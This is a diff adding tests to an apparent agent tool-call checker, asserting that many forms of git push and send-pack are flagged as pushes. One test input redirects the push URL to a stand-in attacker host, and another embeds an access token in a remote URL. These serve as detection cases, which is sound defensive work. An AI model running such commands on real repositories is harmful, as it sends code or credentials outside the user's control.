@@ -66,6 +66,25 @@ describe('checkToolCalls: git', () => {
   });
 });
 
+describe('checkToolCalls: every push form, bare URLs included (issue 9)', () => {
+  it.each([
+    'git push https://github.com/acme/shop.git HEAD:main',
+    'git push https://x-access-token:t0k@github.com/acme/shop.git HEAD:refs/heads/main',
+    'git push git@github.com:acme/shop.git HEAD',
+    'git push file:///tmp/remote.git HEAD:main',
+    'git push /tmp/remote.git HEAD:main',
+    'git -c remote.origin.pushurl=https://evil.example/r.git push origin HEAD',
+    '/usr/bin/git --git-dir=.git push https://github.com/acme/shop.git main',
+    'GIT_SSH_COMMAND=ssh git push git@github.com:acme/shop.git HEAD',
+    'env GIT_TERMINAL_PROMPT=0 git push https://github.com/acme/shop.git HEAD',
+    'git send-pack https://github.com/acme/shop.git main',
+    'git send-pack /tmp/remote.git refs/heads/main',
+    'git http-push https://example.com/shop.git main',
+    "sh -c 'git push https://github.com/acme/shop.git HEAD'",
+    'cd /tmp && git push https://github.com/acme/shop.git HEAD',
+  ])('%s', (command) => expect(rules(command)).toContain('push'));
+});
+
 describe('checkToolCalls: migrations', () => {
   it.each([
     'npx prisma migrate deploy', 'npx prisma migrate reset --force', 'bin/rails db:migrate', 'bundle exec rake db:migrate', 'alembic upgrade head',
